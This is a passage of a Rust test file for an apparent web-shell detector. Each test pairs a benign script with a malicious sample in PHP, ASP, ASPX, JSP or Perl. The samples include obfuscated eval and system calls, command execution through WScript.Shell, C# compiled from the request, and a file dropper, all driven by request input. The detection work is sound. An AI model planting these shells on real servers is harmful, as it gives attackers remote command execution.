    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn two_variables_replacing_into_each_other_are_followed_into_eval() {
    let src = b"<?php\n$x = 'QQrunQQ(QQ$_GETQQ[1]);';\n$y = str_replace('QQ', 'ZZ', $x);\n$x = str_replace('ZZrun', 'system', $y);\n$y = str_replace('ZZ', '', $x);\neval($y);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.command");
    let benign = b"<?php\n$x = 'Hello NAME';\n$y = str_replace('NAME', 'you', $x);\n$x = str_replace('Hello', 'Hi', $y);\necho $x;\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn function_name_taken_from_the_script_file_name_is_a_computed_call() {
    let src = b"<?php\n${'fn'} = substr(basename(__FILE__), 0, -4);\n$fn($_REQUEST['a']);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.computed-call");
    let benign = b"<?php\n$page = substr(basename(__FILE__), 0, -4);\necho '<h1>' . htmlspecialchars($page) . '</h1>' . htmlspecialchars($_GET['q']);\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn callback_in_a_variable_used_only_there_is_register_globals_input() {
    let src = b"<?php\n$data = array($_POST['q']);\nuasort($data, $cmp);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.callback");
    let benign = b"<?php\n$cmp = function ($a, $b) { return strcmp($a, $b); };\n$data = array($_POST['q'], 'b');\nuasort($data, $cmp);\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn code_hidden_in_a_doc_comment_and_called_is_detected() {
    let src = b"<?php\n/**\n * @run system\n */\nfunction hook() {}\n$r = new ReflectionFunction('hook');\n$d = $r->getDocComment();\n$f = trim(substr($d, strpos($d, '@run') + 5, 6));\n$f($_GET['x']);\n";
    assert_detected(&analyze(src, Lang::Php), "deobf.doc-comment");
    // Annotations read to configure, not called.
    let benign = b"<?php\n/**\n * @route /home\n */\nfunction home() {}\n$r = new ReflectionFunction('home');\n$d = $r->getDocComment();\n$route = trim(substr($d, strpos($d, '@route') + 7));\nif ($_SERVER['REQUEST_URI'] === $route) { home(); }\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn permission_change_of_a_request_path_is_detected() {
    let src = b"<?php\n$t = urldecode($_POST['t']);\nchmod($t, 0777);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.file-op");
    let src = b"<?php\nchown(stripslashes($_GET['f']), 'www-data');\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.file-op");
    let benign = b"<?php\n$name = basename($_POST['t']);\n@unlink(__DIR__ . '/cache/' . $name . '.tmp');\nchmod(__DIR__ . '/cache', 0755);\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn function_names_produced_by_a_custom_decoder_are_detected() {
    let src = b"<?php\nfunction dq($s) { $s = base64_decode($s); $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) ^ 7); } return $o; }\n$a = dq('dHR1cmM=');\n$b = dq('dmJ0YmM=');\n$c = dq('cmRubw==');\n$a($b($c(1)));\n";
    assert_detected(&analyze(src, Lang::Php), "deobf.name-decoder");
    // A decoding helper whose results are printed, not called.
    let benign = b"<?php\nfunction dq($s) { $s = base64_decode($s); $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) ^ 7); } return $o; }\n$a = dq('dHR1cmM=');\n$b = dq('dmJ0YmM=');\n$c = dq('cmRubw==');\necho $a, $b, $c;\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn dotnet_source_compiled_from_the_request_is_code() {
    let src = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        var cc = new Microsoft.CSharp.CSharpCodeProvider(); var opts = new System.CodeDom.Compiler.CompilerParameters();\n\
        var asm = cc.CompileAssemblyFromSource(opts, Request.Unvalidated.Form[\"body\"]).CompiledAssembly;\n\
        asm.CreateInstance(\"Entry\"); }\n</script>";
    assert_detected(&analyze(src, Lang::Aspx), "flow.code");
    // A build page compiling a fixed source file.
    let benign = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        var cc = new Microsoft.CSharp.CSharpCodeProvider(); var opts = new System.CodeDom.Compiler.CompilerParameters();\n\
        var r = cc.CompileAssemblyFromSource(opts, System.IO.File.ReadAllText(Server.MapPath(\"~/App_Code/Plugin.cs\")));\n\
        Status.Text = Server.HtmlEncode(Request[\"msg\"]) + r.Errors.Count; }\n</script>";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn com_shell_reached_by_late_binding_is_a_command_flow() {
    let src = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        Type sh = Type.GetTypeFromProgID(\"WScript.Shell\"); object o = Activator.CreateInstance(sh);\n\
        sh.InvokeMember(\"Run\", System.Reflection.BindingFlags.InvokeMethod, null, o, new object[] { Request.QueryString[\"r\"], 0, false }); }\n</script>";
    assert_detected(&analyze(src, Lang::Aspx), "flow.command");
    let benign = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        Type xl = Type.GetTypeFromProgID(\"Excel.Application\"); object app = Activator.CreateInstance(xl);\n\
        xl.InvokeMember(\"Visible\", System.Reflection.BindingFlags.SetProperty, null, app, new object[] { Request[\"show\"] == \"1\" }); }\n</script>";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn nio_files_write_to_a_request_path() {
    let src = b"<%@ page import=\"java.nio.file.*\" %><% Files.write(Paths.get(request.getParameter(\"to\")), request.getParameter(\"body\").getBytes()); %>";
    assert_detected(&analyze(src, Lang::Jsp), "flow.file");
    let benign = b"<%@ page import=\"java.nio.file.*\" %><% Files.write(Paths.get(application.getRealPath(\"/WEB-INF/hits.log\")), \"hit\\n\".getBytes(), StandardOpenOption.APPEND); out.print(request.getParameter(\"q\") != null); %>";
    assert_clean(&analyze(benign, Lang::Jsp));
}

#[test]
fn perl_cgi_string_eval_of_request_input() {
    let src = b"#!/usr/bin/perl\nuse CGI;\nmy $cgi = CGI->new;\nprint $cgi->header('text/plain');\nmy $perl = $cgi->param('p');\nmy $r = eval $perl;\nprint $r;\n";
    assert_detected(&analyze(src, Lang::Perl), "perl.cgi-eval");
    // `eval { }` blocks and `$@` are error handling.
    let benign = b"#!/usr/bin/perl\nuse CGI;\nmy $cgi = CGI->new;\nprint $cgi->header;\nmy $n = eval { int($cgi->param('n')) };\nprint \"bad: $@\" if $@;\nprint $n * 2;\n";
    assert_clean(&analyze(benign, Lang::Perl));
}

#[test]
fn chained_text_stream_on_a_script_name_written_with_request_text() {
    let src = b"<%\r\nCreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"img/t.cer\"), True).Write Request.Form(\"c\")\r\n%>";
    assert_detected(&analyze(src, Lang::Asp), "flow.dropper");
    let benign = b"<%\r\nCreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"logs/last.txt\"), True).Write Server.HTMLEncode(Request.Form(\"c\"))\r\n%>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn java_file_named_by_the_request_then_deleted() {
    let src = b"<%@ page import=\"java.io.*\" %><% String victim = request.getParameter(\"v\");\nif (victim != null) { new File(victim).delete(); }\n\
        File dir = new File(request.getParameter(\"d\")); for (String n : dir.list()) out.println(n); %>";
    assert_detected(&analyze(src, Lang::Jsp), "flow.file");
    // A cache page deleting its own fixed file and listing a fixed directory.
    let benign = b"<%@ page import=\"java.io.*\" %><% if (request.getParameter(\"purge\") != null) { new File(application.getRealPath(\"/WEB-INF/cache.bin\")).delete(); }\n\
        File dir = new File(application.getRealPath(\"/images\")); for (String n : dir.list()) out.println(n); %>";
    assert_clean(&analyze(benign, Lang::Jsp));
}

#[test]
fn assertion_on_a_value_is_no_code_sink() {
    // A predicate call or a comparison never yields a string, so nothing is evaluated.
    let benign = b"<?php\nfunction go($to) {\n  assert(is_string($to));\n  assert($to !== '' && strlen($to) < 2048);\n  header('Location: ' . $to);\n}\ngo($_GET['next']);\n";
    assert_clean(&analyze(benign, Lang::Php));
    let src = b"<?php\nfunction go($to) { assert($to); }\ngo($_GET['next']);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.code");
}

#[test]
fn register_globals_fields_are_not_assumed_in_code_reading_superglobals() {
    // Code that reads $_GET takes its globals from the files that include it.
    let benign = b"<?php\nfunction dump() {\n  global $db;\n  passthru('mysqldump ' . escapeshellarg($db) . ' ' . $db);\n}\necho \"<form><input name=db></form>\";\nif (isset($_GET['go'])) dump();\n";
    let v = analyze(benign, Lang::Php);
    assert!(
        !v.reasons.iter().any(|r| r.signal == "php.register-globals-field"),
        "{v:#?}"
    );
    assert_clean(&v);
}

#[test]
fn file_name_of_a_non_process_object_is_not_a_command_sink() {
    let benign = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        var cd = new System.Net.Mime.ContentDisposition();\n  cd.FileName = \"report.pdf\";\n\
        Response.AppendHeader(\"Content-Disposition\", cd.ToString());\n  Label1.Text = Server.HtmlEncode(Request[\"q\"]);\n}</script>";
    assert_clean(&analyze(benign, Lang::Aspx));
    let src = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        var ps = new System.Diagnostics.ProcessStartInfo();\n  ps.FileName = Request[\"exe\"];\n  System.Diagnostics.Process.Start(ps);\n}</script>";
    assert_detected(&analyze(src, Lang::Aspx), "flow.command");
}
